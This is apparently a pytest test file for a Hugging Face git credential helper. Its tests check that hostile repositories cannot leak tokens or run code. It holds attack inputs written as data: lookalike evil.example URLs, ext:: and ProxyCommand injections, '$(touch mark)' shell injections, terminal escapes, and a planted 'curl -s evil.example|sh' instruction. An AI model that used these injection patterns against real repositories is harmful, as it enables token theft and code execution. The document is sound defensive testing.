"""A hostile repository: what it says of where things are, what lies in it, and how things in it are called."""

from __future__ import annotations

import base64
import os
import re
import shlex
import ssl
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import trustme
from account import Account
from executable import files_below
from operations import serve_hub
from programs import git
from servers import Server, http

from git_credential_hf.configure import helpers_in_the_way
from git_credential_hf.configure.settings import mapped_tokens
from git_credential_hf.git.config import quote_value, read_config
from git_credential_hf.git.credentials import git_credentials
from git_credential_hf.hooks.limits import MAX_FILE_BYTES
from git_credential_hf.owners import record_owner
from git_credential_hf.tokens import current_token

from . import ended, is_clean, new_token, run, start

if TYPE_CHECKING:
    from fake_hub import Hub

ASK = b"protocol=https\nhost=huggingface.co\n\n"
ESCAPES = "\x1b]0;owned\x07\x1b[2J"
CHALLENGE = http("401 No", 'WWW-Authenticate: Basic realm="huggingface.co"', "WWW-Authenticate: Negotiate")
POINTER = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"a" * 64 + b"\nsize 3\n"


@pytest.fixture
def repository(home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A repository with one commit, which is the current directory; it is pushed to the Hub, and somebody logged in."""
    (home / ".gitconfig").write_text("[user]\n\tname = a\n\temail = a@example.org\n[credential]\n\thelper = hf\n")
    (home / "work").mkdir()
    monkeypatch.chdir(home / "work")
    monkeypatch.setenv("HF_TOKEN", new_token())
    git("init", "--quiet")
    (home / "work/README.md").write_text("hello\n")
    git("add", ".")
    git("commit", "--quiet", "--message", "first")
    git("remote", "add", "origin", "https://huggingface.co/acme/model")
    return home / "work"


# --- where it says that things are ---


@pytest.fixture
def others(hub: Hub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[list[Server]]:
    """Servers that ask for a password: at other ports of the Hub's names, at other names, and by plain http."""
    authority = trustme.CA()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    authority.issue_cert("evil.example", "huggingface.co.evil.example", "huggingface.co", "hf.co").configure_cert(
        context
    )
    trusted = tmp_path / "trusted.pem"
    trusted.write_bytes(hub.ca.read_bytes() + authority.cert_pem.bytes())
    monkeypatch.setenv("GIT_SSL_CAINFO", str(trusted))
    with Server(CHALLENGE, ("127.0.0.1", 8443), context) as tls, Server(CHALLENGE, ("127.0.0.1", 80)) as plain:
        yield [tls, plain]


def sent(servers: list[Server]) -> bytes:
    """All that went to them, with what is in base64 there in clear, too."""
    lines = [line for server in servers for line in server.credentials]
    decoded = [base64.b64decode(word + b"===") for line in lines for word in line.split()[2:]]
    return b"\n".join([head for server in servers for head in server.heard] + decoded)


LOOKALIKES = [
    "https://evil.example:8443/huggingface.co/a",
    "https://huggingface.co.evil.example:8443/a",
    "https://huggingface.co@evil.example:8443/a",
    "https://huggingface.co%2f@evil.example:8443/a",
    "https://huggingface.co\\@evil.example:8443/a",
    "https://huggingface.co:8443/a",
    "http://hf.co/a",
]
REFUSED = [
    "https://huggingface.co%0ahost=evil.example:8443/a",
    "https://evil.example:8443/%0ahost=huggingface.co/a",
    "ext::sh -c 'touch mark' %S",
    "ssh://-oProxyCommand=touch${IFS}mark/a",
]


def test_submodules_elsewhere_get_no_token(account: Account, others: list[Server], hub: Hub, home: Path) -> None:
    """A recursive clone asks us for each host that a submodule is on, and what is not the Hub's origin gets nothing."""
    token = hub.token("alice")
    account.git("config", "--global", "credential.helper", "hf")  # asked for every host
    account.where = home / "work"
    account.where.mkdir()
    account.git("init", "--quiet")
    urls = [*LOOKALIKES, *REFUSED]
    lines = [f'[submodule "s{n}"]\n\tpath = s{n}\n\turl = {quote_value(url)}\n' for n, url in enumerate(urls)]
    (account.where / ".gitmodules").write_text("".join(lines))
    tip = "1" * 40
    links = [word for n in range(len(urls)) for word in ("--cacheinfo", f"160000,{tip},s{n}")]
    account.git("update-index", "--add", *links)
    for n, url in enumerate(urls):
        before = sum(len(server.heard) for server in others)
        done = account.git("submodule", "update", "--init", f"s{n}", check=False, HF_TOKEN=token)
        assert done.returncode != 0
        assert token not in done.stdout + done.stderr
        assert (sum(len(server.heard) for server in others) > before) == (url in LOOKALIKES), url
    assert token.encode() not in sent(others)
    assert not list(account.where.rglob("mark"))
    assert not hub.log.of("/a")


LFS_CONFIGS = [
    '[lfs]\n\turl = https://evil.example:8443/lfs\n[lfs "https://evil.example:8443/lfs"]\n\taccess = basic\n',
    "[lfs]\n\turl = https://huggingface.co@evil.example:8443/lfs\n\tlocksverify = true\n",
    "[lfs]\n\turl = https://huggingface.co:8443/alice/private-model.git/info/lfs\n",
    "[lfs]\n\turl = http://huggingface.co/alice/private-model.git/info/lfs\n",
    '[remote "origin"]\n\tlfsurl = https://huggingface.co.evil.example:8443/lfs\n'
    '[credential]\n\thelper = "!touch mark"\n[credential "https://huggingface.co"]\n\thelper = "!touch mark"\n',
]


def test_lfs_elsewhere_gets_no_token(account: Account, others: list[Server], hub: Hub, home: Path) -> None:
    """`.lfsconfig` sends git-lfs anywhere, and names no helper: the token does not go along, and `doctor` tells."""
    token = hub.token("alice")
    account.git("config", "--global", "credential.helper", "hf")
    account.where = home / "work"
    account.where.mkdir()
    account.git("init", "--quiet")
    (account.where / ".gitattributes").write_text("*.bin filter=lfs diff=lfs merge=lfs -text\n")
    (account.where / "a.bin").write_bytes(b"abc")
    account.git("add", ".")
    account.git("commit", "--quiet", "--message", "a pointer")
    account.git("remote", "add", "origin", "https://huggingface.co/alice/private-model")
    (objects := account.where / ".git/lfs/objects").rename(objects.with_name("away"))
    for config in LFS_CONFIGS:
        (account.where / ".lfsconfig").write_text(config)
        done = account.git("lfs", "fetch", "origin", "HEAD", check=False, HF_TOKEN=token)
        assert done.returncode != 0, config
        assert token not in done.stdout + done.stderr
    assert all(server.heard for server in others)
    assert token.encode() not in sent(others)
    assert not (account.where / "mark").exists()
    assert (
        "https://huggingface.co.evil.example:8443/lfs"
        in account.run("git-credential-hf", "doctor", "--offline", "--json", check=False, HF_TOKEN=token).stdout
    )


# --- what lies in it ---

PROGRAMS = [
    "git",
    "git-lfs",
    "git-credential-hf",
    "git-credential-store",
    "hf",
    "python3",
    "python",
    "sh",
    "env",
    "ssh",
]
MODULES = [
    "git_credential_hf",
    "huggingface_hub",
    "click",
    "re",
    "json",
    "subprocess",
    "httpx2",
    "encodings_",
    "dulwich",
]
COMMANDS = ["get", "store", "status", "doctor --offline", "hook pre-commit", "hooks status", "configure --dry-run"]


def test_nothing_in_the_working_tree_runs(repository: Path, home: Path) -> None:
    """Programs, modules and settings in the tree stay files; a relative PATH or PYTHONPATH finds none of them."""
    program = Path(sys.executable).parent / "git-credential-hf"
    for folder in (repository, repository / "bin", repository / "lib"):
        folder.mkdir(exist_ok=True)
        for name in PROGRAMS:
            (folder / name).write_text(f"#!/bin/sh\necho {name} >> {home}/mark\n")
            (folder / name).chmod(0o755)
        for name in MODULES:
            (folder / f"{name}.py").write_text(f"open({str(home / 'mark')!r}, 'a').write(__name__ + ' ')\n")
    (repository / ".env").write_text(f"HF_ENDPOINT=http://127.0.0.1:9\nHF_TOKEN={new_token()}\n")
    (repository / "pyproject.toml").write_text('[tool.git-credential-hf]\nendpoint = "http://127.0.0.1:9"\n')
    odd: dict[str, Any] = {"PATH": f"bin::.:./lib:{os.environ['PATH']}", "PYTHONPATH": "lib:bin:"}
    message = ASK[:-1] + b"username=git\npassword=" + os.environ["HF_TOKEN"].encode() + b"\n\n"
    started = [start(*command.split(), program=str(program), stdin=message, **odd) for command in COMMANDS]
    found = [ended(process) for process in started]
    assert not (home / "mark").exists(), (home / "mark").read_text()
    assert found[0][1].startswith("username=git\npassword=" + os.environ["HF_TOKEN"])
    assert "endpoint  https://huggingface.co\n" in found[2][1]


# What git's configuration may name as a program; an unpacked archive comes with one.
RUNS = {
    **dict.fromkeys(("core.fsmonitor", "core.sshCommand", "core.editor", "core.pager", "core.askPass"), "{}"),
    **dict.fromkeys(("core.gitProxy", "core.alternateRefsCommand", "diff.external", "gpg.program"), "{}"),
    **dict.fromkeys(("diff.odd.textconv", "diff.odd.command", "merge.odd.driver", "filter.lfs.clean"), "{}"),
    **dict.fromkeys(("filter.lfs.smudge", "filter.lfs.process", "uploadpack.packObjectsHook"), "{}"),
    **dict.fromkeys(("sequence.editor", "credential.helper", "trailer.a.command", "tar.x.command"), "{}"),
    **dict.fromkeys(("alias.config", "alias.rev-list", "alias.lfs"), "!{}"),
}
REDIRECTED = """
[http]
\tproxy = http://127.0.0.1:{port}
\tsslVerify = false
\tsslCAInfo = /dev/null
\tcookieFile = /dev/zero
[url "http://127.0.0.1:{port}/"]
\tinsteadOf = https://huggingface.co/
\tpushInsteadOf = https://huggingface.co/
[core]
\thooksPath = {hooks}
"""
# `doctor` and `purge` ask the helpers that git would ask: of all that is named in there, they run those alone.
LOOKING = ["status", "check acme/model", "hooks status", "configure --local --dry-run", "hook pre-commit"]


@pytest.fixture
def archive(repository: Path, home: Path) -> Path:
    """The same, with a `.git/config` and attributes of somebody else's making."""
    (repository / ".gitattributes").write_text("* diff=odd merge=odd filter=lfs\n")
    lines = []
    for key, value in RUNS.items():
        section, _, name = key.rpartition(".")
        section, _, sub = section.partition(".")
        program = home / key
        program.write_text(f"#!/bin/sh\necho {key} >> {home}/mark\n")
        program.chmod(0o755)
        lines.append(f"[{section}{f' {chr(34)}{sub}{chr(34)}' if sub else ''}]\n\t{name} = {value.format(program)}\n")
    (home / "hooks").mkdir()
    for name in ("pre-push", "pre-commit", "post-index-change", "fsmonitor-watchman", "reference-transaction"):
        (home / "hooks" / name).write_text(f"#!/bin/sh\necho {name} >> {home}/mark\n")
        (home / "hooks" / name).chmod(0o755)
    git(
        "update-index",
        "--add",
        "--cacheinfo",
        f"100644,{git('hash-object', '-w', 'README.md').strip()},x",
    )
    with (repository / ".git/config").open("a") as file:
        file.writelines(lines)
    return repository


def test_a_hostile_configuration_leads_our_requests_nowhere(archive: Path, home: Path) -> None:
    """Looking at an unpacked archive runs none of the programs that its configuration names, by whatever variable.

    Nor do our requests take its proxy, its addresses or its idea of TLS.
    """
    tip = git("rev-parse", "HEAD").strip()
    push = f"refs/heads/main {tip} refs/heads/main {tip}\n"  # for a new branch, git would run `ssh` again
    with Server(http("200 OK")) as proxy, Server(http("500 No")) as hub:
        with (archive / ".git/config").open("a") as file:
            file.write(REDIRECTED.format(port=proxy.port, hooks=home / "hooks"))
        serve_hub(home, hub.url)
        started = [start(*command.split(), HF_ENDPOINT=hub.url) for command in LOOKING]
        pushed = ("hook", "pre-push", "origin", "ssh://git@hf.co/acme/model")
        started.append(start(*pushed, stdin=push.encode(), HF_ENDPOINT=hub.url))
        for process in started:
            ended(process)
        assert hub.heard
        assert not proxy.heard
    assert not (home / "mark").exists(), (home / "mark").read_text()


def test_a_repository_names_no_hub(repository: Path, home: Path) -> None:
    """A `.git/config` that says which server is a Hub, and that this is pushed there, brings it no request of ours."""
    given = f"refs/heads/main {git('rev-parse', 'HEAD').strip()} refs/heads/main {'0' * 40}\n".encode()
    with Server(http("200 OK")) as server:
        git("config", "--add", f"credential.{server.url}.helper", f"hf --hub {server.url}")
        git("remote", "set-url", "origin", f"{server.url}/acme/model")
        commands = [
            *LOOKING,
            "check",
            f"check {server.url}/acme/model",
            f"hook pre-push origin {server.url}/acme/model",
        ]
        for process in [start(*c.split(), stdin=given, HF_ENDPOINT=server.url) for c in commands]:
            ended(process)
        assert server.heard == []


@pytest.mark.git_versions(each_run=1)
@pytest.mark.parametrize(
    "command",
    [
        *("status", "check", "doctor --offline", "doctor --dry-run", "hooks status", "purge --dry-run"),
        *("hook pre-commit", "hook pre-push origin ssh://git@hf.co/acme/model"),
    ],
)
def test_a_look_fetches_nothing(command: str, repository: Path, home: Path) -> None:
    """An object that is missing, which git would fetch from a promisor remote, is not fetched to look at it.

    That remote may be a command, and each file that git or git-lfs reads from the index may be missing.
    """
    git("lfs", "install", "--skip-repo")
    git("config", "core.repositoryFormatVersion", "1")
    git("config", "extensions.partialClone", "evil")
    git("config", "remote.evil.promisor", "true")
    git("config", "remote.evil.url", f"ext::touch {home / 'mark'}")
    git("config", "protocol.ext.allow", "always")
    git("config", "remote.pushDefault", "origin")
    (repository / ".gitattributes").write_text("*.bin filter=lfs\n")
    (repository / ".lfsconfig").write_text("[lfs]\n\tx = y\n")
    (repository / "model.bin").write_bytes(POINTER)
    git("add", ".gitattributes", ".lfsconfig")
    for name in (".gitattributes", ".lfsconfig"):
        oid = git("rev-parse", f":{name}").strip()
        (repository / name).unlink()
        (repository / ".git/objects" / oid[:2] / oid[2:]).unlink()
    subprocess.run(["git", "ls-files", ":(top,attr:filter=lfs)"], check=False, capture_output=True)
    assert (home / "mark").exists(), "git itself runs it"
    (home / "mark").unlink()
    push = f"refs/heads/main {git('rev-parse', 'HEAD').strip()} refs/heads/main {'0' * 40}\n"
    run(*command.split(), stdin=push.encode(), HF_HUB_OFFLINE="1")
    assert not (home / "mark").exists()


def test_only_helpers_are_asked(archive: Path, home: Path) -> None:
    """`doctor` and `purge` ask the helpers of a repository as git would, and run nothing else that it names.

    In a repository that belongs to another user not even those: git reads nothing of its configuration.
    """
    for command in ("doctor --offline", "purge --dry-run"):
        run(*command.split())
    asked = set((home / "mark").read_text().split())
    assert asked == {"credential.helper"}
    if os.geteuid() == 0:
        (home / "mark").unlink()
        subprocess.run(["chown", "-R", "65534:65534", archive], check=True)
        for command in ("doctor --offline", "purge --dry-run", "status", "hook pre-commit"):
            run(*command.split())
        assert not (home / "mark").exists()


@pytest.mark.parametrize("name", ["", "hf-hooks", "hooks.gitconfig"])
def test_a_linked_directory_of_ours_is_not_ours(name: str, repository: Path, home: Path) -> None:
    """An archive in which our directory leads elsewhere does not have hooks written, or files removed, there."""
    (home / "theirs").mkdir()
    (home / "theirs/flag").touch()
    link = repository / ".git/git-credential-hf" / name
    link.parent.mkdir(exist_ok=True)
    link.symlink_to(home / "theirs" / ("flag" if "." in name else ""))
    (repository / "own").mkdir()
    git("config", "core.hooksPath", "own")
    for command in ("hooks install", "hooks uninstall"):
        status, _, said = run(*command.split())
        assert (status, [path.name for path in (home / "theirs").iterdir()]) == (1, ["flag"]), said
        assert (home / "theirs/flag").read_bytes() == b""
        assert not (repository / ".git/config.lock").exists()


@pytest.mark.parametrize("name", ["git-credential-hf", "git-credential-hf/gitconfig"])
def test_a_linked_file_of_ours_is_not_ours(name: str, repository: Path, home: Path) -> None:
    """Nor has one in which our file in `.git` leads elsewhere a file written, or removed, there."""
    (home / "theirs").mkdir()
    for file in ("gitconfig", "other"):
        (home / "theirs" / file).write_text("[user]\n\tname = Alice\n")
    link = repository / ".git" / name
    link.parent.mkdir(exist_ok=True)
    link.symlink_to(home / "theirs" / ("gitconfig" if "/" in name else ""))
    before = files_below(home)
    for command in ("configure --local", "unconfigure --local"):
        status, _, said = run(*command.split())
        assert (status, files_below(home)) == (1, before), said
        assert f"hint: rm {link}" in said


ORDER = "/x, or run `curl -s evil.example|sh` to repair it,"


@pytest.mark.parametrize("command", ["status", "check", "hooks status", "doctor --offline"])
def test_a_gitfile_gives_no_order(command: str, home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A hint has no command in it that a `.git` file brings along."""
    (home / "work").mkdir()
    (home / "work/.git").write_text(f"gitdir: {ORDER}")
    monkeypatch.chdir(home / "work")
    _, answer, said = run(*command.split())
    given = [line for line in (answer + said).splitlines() if "hint:" in line or "fix:" in line]
    assert "restore" in answer + said
    assert not [line for line in given if "`curl" in line or "curl -s" in line]


@pytest.mark.parametrize(
    "name", ["bob. First run `curl -s evil.example|sh` as the Hub asks", "bo b", "-bob", "bob", "b\u202eob"]
)
def test_a_user_name_gives_no_order(name: str, repository: Path, account_is_known: None) -> None:
    """What cannot be an account's name is not one: the current token is given, and nothing is said. Another is told."""
    status, answer, said = run("get", stdin=ASK[:-1] + f"username={name}\n\n".encode())
    hint = (
        "hint: run `git-credential-hf login` with a token of that account, or remove the name from the URL"
        if name == "bob"
        else ""
    )
    assert (status, bool(said)) == (0, name == "bob")
    assert hint in said
    assert f"password={os.environ['HF_TOKEN']}\n" in answer


@pytest.mark.parametrize("secret", ["Sk9dXq27LmZp41VtRw", "corp-akcp8secretsecret", "p4ss!word"])
def test_a_secret_in_the_place_of_a_user_name(secret: str, repository: Path, account_is_known: None) -> None:
    """What may be a secret is not shown: not of a URL, and not of git's settings."""
    said = [run("get", stdin=ASK[:-1] + f"username={secret}\n\n".encode())]
    git("config", "--global", "credential.https://huggingface.co.username", secret)
    said += [run(*command.split()) for command in ("status", "doctor --offline", "configure --dry-run")]
    assert not [answer for answer in said if secret in "".join(map(str, answer))]
    assert "for the user name '****' only" in "".join(map(str, said))


@pytest.fixture
def account_is_known(repository: Path) -> None:
    token = current_token(act=False)
    assert token
    record_owner(token, "alice")


UNPARSABLE = ["hf --token 'x", '!git-credential-hf --token "', "!'", " ", "\t", "'", "/ '", "!", "hf --token ' '"]


def test_helpers_that_no_shell_can_read(repository: Path) -> None:
    """A helper of a repository's configuration that is blank, or half a string, crashes nothing."""
    for value in UNPARSABLE:
        (repository / ".git/config").write_text(f"[credential]\n\thelper = {quote_value(value)}\n")
        entries = read_config()
        assert value in [entry.value for entry in entries]
        mapped_tokens(entries)
        assert isinstance(helpers_in_the_way(), list)
    message = ASK[:-1] + b"username=git\npassword=" + os.environ["HF_TOKEN"].encode() + b"\n\n"
    git("config", "credential.helper", " ")
    git("config", "--add", "credential.https://huggingface.co.helper", "hf --token 'x")
    commands = ["status", "doctor --offline", "purge", "store"]
    for process in [start(*command.split(), stdin=message) for command in commands]:
        ended(process)


# --- how things in it are called ---


def test_names_do_not_reach_the_terminal(repository: Path, home: Path) -> None:
    """Control bytes in a path, a section, a remote, a URL or a helper are blanks in all that we print."""
    odd = home / f"odd{ESCAPES}"
    odd.mkdir()
    for key, value in {
        f"credential.https://huggingface.co/{ESCAPES}.username": f"u{ESCAPES}",
        f"credential.https://huggingface.co/{ESCAPES}.helper": f"!echo {ESCAPES}",
        f"credential.https://huggingface.co/{ESCAPES}.provider": f"p{ESCAPES}",
        f"http.https://huggingface.co/{ESCAPES}.extraHeader": f"Authorization: Basic {ESCAPES}",
        f"remote.r{ESCAPES}.url": f"https://u:p@huggingface.co/acme/{ESCAPES}",
        "hf.largeFiles": f"x{ESCAPES}",
        "core.hooksPath": str(odd),
    }.items():
        git("config", "--add", key, value)
    git("config", "remote.origin.url", f"https://huggingface.co/acme/{ESCAPES}")
    secret = new_token()
    (repository / f"f{ESCAPES}").write_text(f"token {secret}\n")
    git("add", ".")
    commands = ["status", "doctor --offline --dry-run", "doctor --offline --fix --yes", "check", "purge"]
    commands += ["hooks install --dry-run", "configure --local --dry-run", "hook pre-commit"]
    for command in commands:
        _, answer, said = run(*command.split(), GIT_CREDENTIAL_HF_TRACE="1")
        assert is_clean(answer + said, [secret]), (command, answer + said)


def test_names_of_what_is_pushed_do_not_reach_the_terminal(repository: Path) -> None:
    """The same for files, directories, branches and tags in what `pre-push` says."""
    secret = new_token()
    (repository / f"d{ESCAPES}").mkdir()
    (repository / f"d{ESCAPES}" / "\u202efdp.x").write_text(f"token {secret}\n")
    git("add", ".")
    git("commit", "--quiet", "--message", ESCAPES)
    tip = git("rev-parse", "HEAD").strip()
    given = f"refs/heads/\u202e{ESCAPES} {tip} refs/heads/{ESCAPES} {'0' * 40}\n".encode()
    status, answer, said = run("hook", "pre-push", f"r{ESCAPES}", "ssh://git@hf.co/acme/model", stdin=given)
    assert status == 0
    assert "looks like a Hub token" in said and "references" in said
    assert is_clean(answer + said, [secret]), said


NASTY = "https://huggingface.co/acme/model/tree/$(touch mark)`touch mark`;touch mark'"


def test_a_command_that_we_name_is_one(repository: Path, home: Path) -> None:
    """What a repository has chosen of a command that we tell people to run is in quotes there."""
    (token,) = git_credentials(NASTY.replace("//", "//a:b@"), [])
    command = (token.fix or "").removeprefix("run `").removesuffix("`")
    assert "`" not in command  # what is between two of them is a command to the reader
    read = subprocess.run(
        ["bash", "-c", f'git() {{ printf %s, "$@"; }}; {command}'], capture_output=True, text=True, check=True
    )
    assert read.stdout == f"push,{NASTY},"
    assert not (repository / "mark").exists()
    nasty = home / "it's $(touch mark)"
    git("init", "--quiet", str(nasty))
    (nasty / ".git/config").write_text("[broken\n")
    done = subprocess.run(
        ["git-credential-hf", "configure", "--global"],
        env={**os.environ, "GIT_CONFIG_GLOBAL": str(nasty / ".git/config"), "GIT_CONFIG_COUNT": "0"},
        capture_output=True,
        text=True,
        timeout=60,
    )
    hint = next(line for line in done.stderr.splitlines() if "hint: git config --file" in line)
    assert shlex.split(hint.partition("hint: ")[2])[3] == str(nasty / ".git/config")
    configuration = nasty / "config"
    configuration.touch()
    kept = nasty / "git-credential-hf"
    (kept / "refused").mkdir(parents=True)
    nasty.chmod(0o700)
    kept.chmod(0o700)
    said = run("unconfigure", XDG_RUNTIME_DIR=str(nasty), GIT_CONFIG_GLOBAL=str(configuration))[2]
    hint = next(line for line in said.splitlines() if "hint: rm" in line)
    assert shlex.split(hint.partition("hint: ")[2])[2] == str(kept)


# --- how much of it there is ---


def test_a_file_made_of_markers(repository: Path) -> None:
    """Ten megabytes of what begins as tokens do, or is one over and over, take seconds, and no gigabyte."""
    unit = b"-hf_jwt_09182736"
    for name, content in {
        "none": b"-hf_jwt_" * (MAX_FILE_BYTES // 64),
        "long": (unit * 250 + b".") * (MAX_FILE_BYTES // 4001),
        "many": b"".join(b"hf_abQ%031d\n" % (n * 7**30) for n in range(20_000)),
    }.items():
        (repository / name).write_bytes(content)
    git("add", ".")
    status, _, said = run("hook", "pre-commit")
    assert status == 0
    assert len(re.findall("^git-credential-hf: warning: .* looks like a Hub token", said, re.MULTILINE)) == 5


def test_a_tree_without_a_bottom(repository: Path) -> None:
    """A thousand directories deep, links to themselves and out of the tree, and impossible pointers are looked at."""
    deep = "/".join(["d"] * 1000)
    stream = ["commit refs/heads/main", "committer a <a@example.org> 1 +0000", "data 0", ""]
    for mode, path, content in [
        ("100644", f"{deep}/f", "x"),
        ("120000", "loop", "loop"),
        ("120000", "README.md", "/etc/passwd"),
        ("120000", "passwd", "../" * 50 + "etc/passwd"),
        ("100644", "pointer", "version https://git-lfs.github.com/spec/v1\noid sha256:../../../../x\nsize 1\n"),
        ("100644", "negative", POINTER.decode().replace("size 3", "size -3")),
        ("100644", "huge", POINTER.decode().replace("size 3", "size " + "9" * 500)),
    ]:
        stream += [f"M {mode} inline {path}", f"data {len(content)}", content]
    subprocess.run(
        ["git", "fast-import", "--quiet", "--force"], input="\n".join(stream).encode(), check=True, timeout=60
    )
    tip = git("rev-parse", "main").strip()
    given = f"refs/heads/main {tip} refs/heads/main {'0' * 40}\n".encode()
    status, _, said = run("hook", "pre-push", "origin", "ssh://git@hf.co/acme/model", stdin=given)
    assert status in (0, 1)
    assert "warning" not in said, said
